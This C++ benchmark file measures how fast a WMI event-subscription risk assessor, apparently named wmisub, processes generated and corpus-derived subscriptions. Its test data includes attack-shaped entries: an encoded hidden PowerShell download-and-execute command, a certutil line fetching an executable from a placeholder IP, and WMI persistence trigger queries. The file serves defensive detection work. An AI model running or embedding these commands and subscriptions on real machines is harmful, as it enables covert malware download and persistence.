// Assessment throughput over 1,000, 10,000 and 100,000 generated subscriptions
// (a realistic mix of attack and benign shapes, every command line distinct):
// graph -> assess keeping every result, and graph -> assess_each streaming
// them. The per-subscription cost shows whether the work scales linearly. The
// reference in the same run: nlohmann/json merely parsing the same
// subscriptions as a JSON snapshot, the least any JSON-fed tool does; compare
// items_per_second (a ratio: machines are noisy).
// Run: build with -DWMISUB_BUILD_BENCH=ON, then bench/bench_assess.
#include "corpus_snapshot.hpp"
#include "wmisub/assess.hpp"
#include "wmisub/collector.hpp"
#include "wmisub/json.hpp"

#include <benchmark/benchmark.h>

#include <cstddef>
#include <memory>
#include <string>

namespace {

wmisub::snapshot generated(std::size_t n) {
    const char* queries[] = {
        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325",
        "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'",
        "SELECT * FROM __InstanceModificationEvent WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 15",
        "SELECT * FROM __TimerEvent WHERE TimerID = 'T'",
        "select * from MSFT_SCMEventLogEvent",
    };
    const char* commands[] = {
        "powershell.exe -NonI -W hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "C:\\Program Files\\Vendor\\agent.exe --report",
        "cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe",
        "C:\\Windows\\System32\\notepad.exe",
    };
    wmisub::mock_collector source;
    for (std::size_t i = 0; i < n; ++i) {
        const std::string id = std::to_string(i);
        source.filter("F" + id, queries[i % 5]).command_line_consumer("C" + id, std::string(commands[i % 4]) + " " + id).bind("F" + id, "C" + id);
    }
    auto snap = source.collect({});
    return std::move(*snap);
}

void assess_subscriptions(benchmark::State& state) {
    const auto n = static_cast<std::size_t>(state.range(0));
    // Shared, so each round builds a graph without copying the snapshot.
    const auto snap = std::make_shared<const wmisub::snapshot>(generated(n));
    const wmisub::rule_catalog catalog = wmisub::rule_catalog::builtin();
    for (auto _ : state) {
        const wmisub::subscription_graph graph(snap);
        auto results = wmisub::assess(graph, catalog);
        benchmark::DoNotOptimize(results);
    }
    state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(n));
    // Seconds per subscription (printed as e.g. "9.8u"): equal across sizes when the work scales linearly.
    state.counters["per_subscription"] = benchmark::Counter(static_cast<double>(n) * static_cast<double>(state.iterations()),
                                                            benchmark::Counter::kIsRate | benchmark::Counter::kInvert);
}
BENCHMARK(assess_subscriptions)->Arg(1000)->Arg(10000)->Arg(100000)->Unit(benchmark::kMillisecond)->Iterations(1);

// The same work streamed: assess_each hands each assessment to the host and
// reuses it, as an agent does that reports and forgets; memory stays flat.
void assess_each_subscription(benchmark::State& state) {
    const auto n = static_cast<std::size_t>(state.range(0));
    // Shared, so each round builds a graph without copying the snapshot.
    const auto snap = std::make_shared<const wmisub::snapshot>(generated(n));
    const wmisub::rule_catalog catalog = wmisub::rule_catalog::builtin();
    for (auto _ : state) {
        const wmisub::subscription_graph graph(snap);
        std::size_t high = 0;
        wmisub::assess_each(graph, catalog, {}, [&](const wmisub::assessment& a) {
            if (a.risk.severity >= wmisub::severity::high) ++high;
        });
        benchmark::DoNotOptimize(high);
    }
    state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(n));
    state.counters["per_subscription"] = benchmark::Counter(static_cast<double>(n) * static_cast<double>(state.iterations()),
                                                            benchmark::Counter::kIsRate | benchmark::Counter::kInvert);
}
BENCHMARK(assess_each_subscription)->Arg(1000)->Arg(10000)->Arg(100000)->Unit(benchmark::kMillisecond)->Iterations(1);

// Realistic content: the corpora's real subscriptions replicated with distinct
// names (bench/corpus_snapshot.hpp), graph + assess_each. Skipped without ../shared.
void assess_corpus(benchmark::State& state) {
    const auto n = static_cast<std::size_t>(state.range(0));
    const auto snap = std::make_shared<const wmisub::snapshot>(wmisub_bench::replicated_corpus(n));
    if (snap->filters.empty()) {
        state.SkipWithError("../shared/data/corpus is absent");
        return;
    }
    const wmisub::rule_catalog catalog = wmisub::rule_catalog::builtin();
    for (auto _ : state) {
        const wmisub::subscription_graph graph(snap);
        std::size_t high = 0;
        wmisub::assess_each(graph, catalog, {}, [&](const wmisub::assessment& a) {
            if (a.risk.severity >= wmisub::severity::high) ++high;
        });
        benchmark::DoNotOptimize(high);
    }
    state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(n));
}
BENCHMARK(assess_corpus)->Arg(20000)->Arg(100000)->Unit(benchmark::kMillisecond)->Iterations(1);

// The reference for assess_corpus: nlohmann/json parsing the same replicated corpus as a snapshot document.
void reference_parse_corpus_json(benchmark::State& state) {
    const auto n = static_cast<std::size_t>(state.range(0));
    const wmisub::snapshot snap = wmisub_bench::replicated_corpus(n);
    if (snap.filters.empty()) {
        state.SkipWithError("../shared/data/corpus is absent");
        return;
    }
    const std::string text = wmisub::to_json_text(snap, -1);
    for (auto _ : state) {
        auto doc = nlohmann::json::parse(text, nullptr, false);
        benchmark::DoNotOptimize(doc);
    }
    state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(n));
    state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(text.size()));
}
BENCHMARK(reference_parse_corpus_json)->Arg(20000)->Arg(100000)->Unit(benchmark::kMillisecond)->Iterations(1);

// The reference: parsing the same subscriptions, written as a wmisub.snapshot/1 document, with nlohmann/json.
void reference_parse_snapshot_json(benchmark::State& state) {
    const auto n = static_cast<std::size_t>(state.range(0));
    const std::string text = wmisub::to_json_text(generated(n), -1);
    for (auto _ : state) {
        auto doc = nlohmann::json::parse(text, nullptr, false);
        benchmark::DoNotOptimize(doc);
    }
    state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(n));
    state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(text.size()));
}
BENCHMARK(reference_parse_snapshot_json)->Arg(10000)->Arg(100000)->Unit(benchmark::kMillisecond)->Iterations(1);

}  // namespace

BENCHMARK_MAIN();
